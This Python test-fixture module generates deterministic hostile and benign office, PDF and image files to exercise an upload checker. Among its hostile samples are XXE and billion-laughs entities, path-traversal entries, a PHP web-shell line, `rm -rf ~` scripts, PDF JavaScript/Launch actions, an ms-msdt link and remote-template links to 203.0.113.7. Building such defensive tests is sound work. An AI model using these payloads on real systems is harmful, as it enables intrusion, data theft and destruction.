"""Two hundred hostile files and five hundred good ones, made anew in each run and the same in every one.

Kinds are functions of a number: `HOSTILE["macros"](3)` is the fourth file with macros.
"""

import io
import random
import struct
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import date

import docx
import openpyxl
import typst
import xlsxwriter
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from tests.core.files import made

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ENDINGS = ("pdf", "docx", "xlsx", "pptx", "jpg", "png")
NAMES = (
    "合作方案",
    "附件1：人才培养协议（盖章）",
    "2026年度经费预算表 v2.1",
    "Cooperation agreement",
    "辽宁大学—东北大学",
    "𠮷林·于洪",
)
BIG_TEXT = "校际合作" * 400


@dataclass(frozen=True)
class Made:
    name: str
    content: bytes


def pick(number: int, *choices: str) -> str:
    return choices[number % len(choices)]


# --- hostile ---------------------------------------------------------------------------------------


def zip_bomb(number: int) -> Made:
    """Zeros in a part of every kind of office file, more of them each time."""
    part = pick(number, "word/media/image1.bin", "word/styles.xml", "docProps/thumbnail.wmf", "customXml/item1.xml")
    content = b"<a>" + b" " * ((12 + number) * 1024 * 1024) + b"</a>"
    return Made("方案.docx", made.word(**{part: content}))


def polyglot(number: int) -> Made:
    """One file that two programs read as two things."""
    first, ending = (
        (made.pdf(), "pdf"),
        (made.picture(), "png"),
        (made.picture("JPEG"), "jpg"),
    )[number % 3]
    second = (made.word, made.excel, made.slides, lambda: made.packed({"run.sh": "rm -rf ~"}))[number // 3 % 4]()
    return Made(f"资料.{ending}", first + second)


def pdf_in_a_picture(number: int) -> Made:
    comment = b"\xff\xfe" + struct.pack(">H", 11 + number) + b"%PDF-1.7\n" + b" " * number
    content = made.picture("JPEG")
    return Made("照片.jpg", content[:2] + comment + content[2:])


def macros(number: int) -> Made:
    path = (
        "word/vbaProject.bin",
        "word/vbaData.xml",
        "word/activeX/activeX1.xml",
        "word/embeddings/oleObject1.bin",
        "xl/macrosheets/sheet1.xml",
        "VBAPROJECT.BIN",
        "word/ActiveX/activeX1.bin",
        "ppt/vbaProject.bin",
        "custom/vbaproject.xml",
        "xl/vbaProject.bin",
    )[number % 10]
    return Made("方案.docx", made.word(**{path: "<x/>"}))


def macro_types(number: int) -> Made:
    """A document that says of itself that it has macros, under the name of one without."""
    kind = (
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
        "application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml",
        "application/vnd.ms-office.vbaProject",
        "application/vnd.ms-office.activeX+xml",
        "application/vnd.openxmlformats-officedocument.oleObject",
        "application/vnd.ms-excel.dialogsheet+xml",
        "application/vnd.ms-excel.macrosheet+xml",
        "application/vnd.ms-excel.intlmacrosheet+xml",
    )[number % 10]
    if number % 10 == 9:
        kind = "application/vnd.ms-excel.macrosheet+xml"
    return Made("方案.docx", made.word(types=made.types(kind)))


def outside_links(number: int) -> Made:
    kind, target = (
        ("attachedTemplate", "http://203.0.113.7/x.dotm"),
        ("image", "http://203.0.113.7/pixel.png"),
        ("frame", "https://example.com/frame.html"),
        ("subDocument", "file:///C:/x.docx"),
        ("hyperlink", "file:///C:/Windows/System32/calc.exe"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", r"\\203.0.113.7\share\x.docx"),
        ("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        ("externalLinkPath", "book.xlsx"),
        ("audio", "http://203.0.113.7/a.mp3"),
    )[number % 10]
    return Made("方案.docx", made.word(links=made.links(made.link(kind, target, "External"))))


def wrong_ending(number: int) -> Made:
    right = {"pdf": made.pdf, "docx": made.word, "xlsx": made.excel, "png": made.picture}
    kind = pick(number, *right)
    others = [one for one in ENDINGS if one != kind]
    return Made(f"资料.{others[number // 4 % len(others)]}", right[kind]())


def unknown_ending(number: int) -> Made:
    ending = pick(number, "exe", "js", "html", "svg", "docm", "xlsm", "zip", "pdf.exe", "lnk", "php")
    return Made(f"资料.{ending}", made.pdf())


def not_what_it_says(number: int) -> Made:
    content = (
        b"<!doctype html><script>alert(1)</script>",
        b"MZ\x90\x00" + bytes(200),
        b"\x7fELF" + bytes(200),
        b"#!/bin/sh\nrm -rf ~\n",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b"<?php system($_GET[0]); ?>",
        b"Rar!\x1a\x07\x00" + bytes(50),
        b"7z\xbc\xaf\x27\x1c" + bytes(50),
        EICAR,
        b"GIF89a" + bytes(50),
    )[number % 10]
    return Made(f"资料.{ENDINGS[number // 10 % len(ENDINGS)]}", content)


def eicar(number: int) -> Made:
    return Made(f"eicar.{ENDINGS[number % len(ENDINGS)]}", EICAR + b" " * number)


def leads_outside(number: int) -> Made:
    path = (
        "../../etc/passwd",
        "/etc/cron.d/x",
        "word/../../x",
        "C:/Windows/x.dll",
        "..\\..\\x",
        "word/..",
        "\\\\server\\share",
        "//server/share",
        "word\\document.xml",
        "D:x",
    )[number % 10]
    return Made("方案.docx", made.word(**{path: "x"}))


def encrypted_pdf(number: int) -> Made:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    algorithm = pick(number, "RC4-40", "RC4-128", "AES-128", "AES-256", "AES-256-R5")
    writer.encrypt("geheim" if number >= 5 else "", "owner", algorithm=algorithm)
    content = io.BytesIO()
    writer.write(content)
    return Made("协议.pdf", content.getvalue())


def acting_pdf(number: int) -> Made:
    name = pick(
        number, "/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToE", "/RichMedia", "/XFA", "/J#61vaScript"
    )
    content = f"<</S {name} /JS (app.alert(1))>>".encode()
    wrapped = made.pdf_with_packed_object if number % 2 else made.pdf_with_loose_object
    return Made("协议.pdf", wrapped(b"99 0 " + content if number % 2 else content))


def carrying_pdf(number: int) -> Made:
    writer = PdfWriter()
    writer.add_attachment(pick(number, "run.exe", "内部.docx", "a.pdf"), EICAR * (number + 1))
    return Made("协议.pdf", made.pdf(writer))


def entities(number: int) -> Made:
    """Definitions of documents, which unfold or fetch."""
    laughs = '<!DOCTYPE a [<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
    )
    text = (
        laughs + "]><a>&j;</a>",
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        '<!DOCTYPE a SYSTEM "http://203.0.113.7/a.dtd"><a/>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://203.0.113.7/a"> %p;]><a/>',
        f'<!DOCTYPE a [<!ENTITY x "{"A" * 10_000}">]><a>{"&x;" * 10_000}</a>',
    )[number % 5]
    part = ("word/document.xml", "word/styles.xml", "customXml/item1.xml", "docProps/core.xml")[number // 5 % 4]
    coding = pick(number, "utf-8", "utf-16")
    return Made("方案.docx", made.word(**{part: f'<?xml version="1.0" encoding="{coding}"?>{text}'.encode(coding)}))


def truncated(number: int) -> Made:
    good = (
        ("方案.docx", made.word()),
        ("清单.xlsx", made.excel()),
        ("协议.pdf", made.pdf()),
        ("照片.png", made.picture()),
        ("照片.jpg", made.picture("JPEG")),
    )
    name, content = good[number % 5]
    return Made(name, content[: len(content) * (15 + 7 * (number // 5 % 11)) // 100])


def huge_picture(number: int) -> Made:
    """A few bytes that say they are a wall; the header is all there is to go by."""
    width, height = 20_000 + 3_000 * number, 9_000
    if number % 2:
        content = bytearray(made.picture("JPEG"))
        at = content.index(b"\xff\xc0") + 5
        content[at : at + 4] = struct.pack(">2H", height, width)
        return Made("照片.jpg", bytes(content))
    head = struct.pack(">2I5B", width, height, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", 13) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))
    return Made("照片.png", b"\x89PNG\r\n\x1a\n" + chunk + made.picture()[33:])


def old_or_locked(number: int) -> Made:
    """What office programs write with a password, and before 2007."""
    return Made(
        f"方案.{pick(number, 'docx', 'xlsx', 'pptx')}", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600 + number)
    )


def many_parts(number: int) -> Made:
    return Made("方案.docx", made.word(**{f"word/media/{one}.txt": "x" for one in range(2_000 + number)}))


def packed_inside(number: int) -> Made:
    inner = (made.packed({"run.exe": "MZ"}), made.word(), made.excel())[number % 3]
    place = pick(number, "word/media/image1.png", "customXml/item.bin", "word/embeddings/a.zip")
    return Made("方案.docx", made.word(**{place: inner}))


def empty(number: int) -> Made:
    return Made(f"空.{ENDINGS[number % len(ENDINGS)]}", b"")


HOSTILE: Mapping[str, Callable[[int], Made]] = {
    "bomb": zip_bomb,
    "polyglot": polyglot,
    "pdf in a picture": pdf_in_a_picture,
    "macros": macros,
    "types of macros": macro_types,
    "links outside": outside_links,
    "wrong ending": wrong_ending,
    "unknown ending": unknown_ending,
    "not what it says": not_what_it_says,
    "eicar": eicar,
    "leads outside": leads_outside,
    "encrypted pdf": encrypted_pdf,
    "acting pdf": acting_pdf,
    "carrying pdf": carrying_pdf,
    "entities": entities,
    "truncated": truncated,
    "huge picture": huge_picture,
    "old or locked": old_or_locked,
    "many parts": many_parts,
    "packed inside": packed_inside,
}
HOSTILE_OF_A_KIND = 10


# --- good ------------------------------------------------------------------------------------------


def named(number: int, ending: str) -> str:
    written = ending.upper() if number % 7 == 3 else ending
    return f"{NAMES[number % len(NAMES)]}{number}.{written}"


def chance(kind: str, number: int) -> random.Random:
    return random.Random(f"{kind} {number}")


def document(number: int) -> Made:
    """As python-docx writes it: headings, tables, pictures, headers, links in the text."""
    file, by = docx.Document(), chance("document", number)
    file.core_properties.author = "辽宁大学"
    for _part in range(by.randint(1, 12)):
        file.add_heading(f"第{by.randint(1, 9)}章　合作内容", level=by.randint(1, 4))
        file.add_paragraph(BIG_TEXT[: by.randint(1, 1_600)], style=by.choice(["List Bullet", "Normal", "Quote"]))
    table = file.add_table(rows=by.randint(1, 30), cols=by.randint(1, 8))
    table.cell(0, 0).text = "序号"
    if number % 2:
        file.add_picture(io.BytesIO(made.picture(by.choice(["PNG", "JPEG"]))))
    if number % 3 == 0:
        file.sections[0].header.paragraphs[0].text = "机密★一年 =1+1 <script>"
    content = io.BytesIO()
    file.save(content)
    return Made(named(number, "docx"), content.getvalue())


def workbook(number: int) -> Made:
    """As openpyxl writes it: several sheets, formulas, merged cells, charts."""
    book, by = openpyxl.Workbook(), chance("workbook", number)
    for sheet_number in range(by.randint(1, 5)):
        sheet = book.create_sheet(f"表{sheet_number}")
        for row in range(by.randint(0, 200)):
            sheet.append([row, f"学生{row}", date(2026, 1, 1 + row % 28), by.random(), "=SUM(A1:A2)"])
        sheet.merge_cells("H1:J3")
    if number % 4 == 0:
        chart = openpyxl.chart.BarChart()
        chart.add_data(openpyxl.chart.Reference(book.active, min_col=1, min_row=1, max_row=3))
        book.active.add_chart(chart, "K5")  # type: ignore[union-attr]
    content = io.BytesIO()
    book.save(content)
    return Made(named(number, "xlsx"), content.getvalue())


def table(number: int) -> Made:
    """As xlsxwriter does: formats, pictures, drop-downs, links, comments."""
    content, by = io.BytesIO(), chance("table", number)
    with xlsxwriter.Workbook(content) as book:
        sheet = book.add_worksheet("名单")
        for row in range(by.randint(1, 300)):
            sheet.write_row(row, 0, ["王明", by.randint(1, 10**9), 0.5, "=HYPERLINK", "@x"])
        sheet.write_url("F1", "https://example.org/方案")
        sheet.data_validation("A1:A9", {"validate": "list", "source": ["教师", "学生"]})
        if number % 2:
            sheet.insert_image("G1", "图.png", {"image_data": io.BytesIO(made.picture())})
        if number % 3 == 0:
            sheet.write_comment("A1", "批注")
            sheet.protect()
    return Made(named(number, "xlsx"), content.getvalue())


def print_out(number: int) -> Made:
    """As typst sets it: text with fonts inside, tables, many pages."""
    by = chance("print", number)
    pages = "\n#pagebreak()\n".join(
        f"= 第{page}页 <l{page}>\n{'合作内容 agreement ' * by.randint(1, 200)}\n#table(columns: 2, [序号], [名称])"
        for page in range(by.randint(1, 5))
    )
    return Made(named(number, "pdf"), typst.compile(pages.encode()))


def scan(number: int) -> Made:
    """Pages that are pictures, as scanners and telephones save them."""
    by = chance("scan", number)
    pages = [Image.effect_noise((by.randint(50, 900), by.randint(50, 900)), 60) for _page in range(by.randint(1, 6))]
    content = io.BytesIO()
    pages[0].save(content, "PDF", save_all=True, append_images=pages[1:], resolution=by.choice([72, 150, 300]))
    return Made(named(number, "pdf"), content.getvalue())


def rewritten(number: int) -> Made:
    """As pypdf joins and marks: bookmarks, links, notes at the margin, turned pages, packed objects or not."""
    writer, by = PdfWriter(), chance("rewritten", number)
    for _page in range(by.randint(1, 8)):
        page = writer.add_blank_page(by.randint(100, 2_000), by.randint(100, 2_000))
        page.rotate(90 * by.randint(0, 3))
    writer.add_outline_item(title="第一章", page_number=0)
    writer.add_metadata({"/Author": "沈阳", "/Title": "JavaScript 课程方案"})
    if number % 2:
        link = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject(map(NumberObject, (0, 0, 9, 9))),
                NameObject("/A"): DictionaryObject(
                    {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://example.org/")}
                ),
            }
        )
        writer.add_annotation(0, link)
    if number % 3 == 0:
        writer.append(PdfReader(io.BytesIO(typst.compile(b"= one"))))
    content = io.BytesIO()
    writer.write(content)
    return Made(named(number, "pdf"), content.getvalue())


def picture_of(number: int, kind: str, modes: tuple[str, ...], **saved: object) -> bytes:
    by = chance(kind, number)
    size = by.choice([(1, 1), (1, 900), (900, 1), (640, 480), (333, 777), (2_000, 1_500)])
    picture = Image.effect_noise(size, by.randint(1, 120)).convert(modes[number % len(modes)])
    content = io.BytesIO()
    picture.save(content, kind, **saved)
    return content.getvalue()


def photograph(number: int) -> Made:
    """Grey, coloured, for print; progressive; with the marks of cameras."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = 1 + number % 8, "Huawei"
    content = picture_of(
        number,
        "JPEG",
        ("RGB", "L", "CMYK"),
        quality=20 + number % 75,
        progressive=bool(number % 2),
        exif=exif,
        dpi=(72 + number, 72 + number),
        comment="校际合作".encode(),
    )
    return Made(named(number, pick(number, "jpg", "jpeg")), content)


def screenshot(number: int) -> Made:
    """Of every depth, with and without what shines through, packed more or less."""
    modes = ("RGB", "RGBA", "L", "LA", "P", "1", "I;16")
    return Made(named(number, "png"), picture_of(number, "PNG", modes, compress_level=number % 10))


GOOD: Mapping[str, tuple[Callable[[int], Made], int]] = {
    "document": (document, 90),
    "workbook": (workbook, 60),
    "table": (table, 50),
    "print-out": (print_out, 60),
    "scan": (scan, 50),
    "rewritten": (rewritten, 50),
    "photograph": (photograph, 70),
    "screenshot": (screenshot, 70),
}
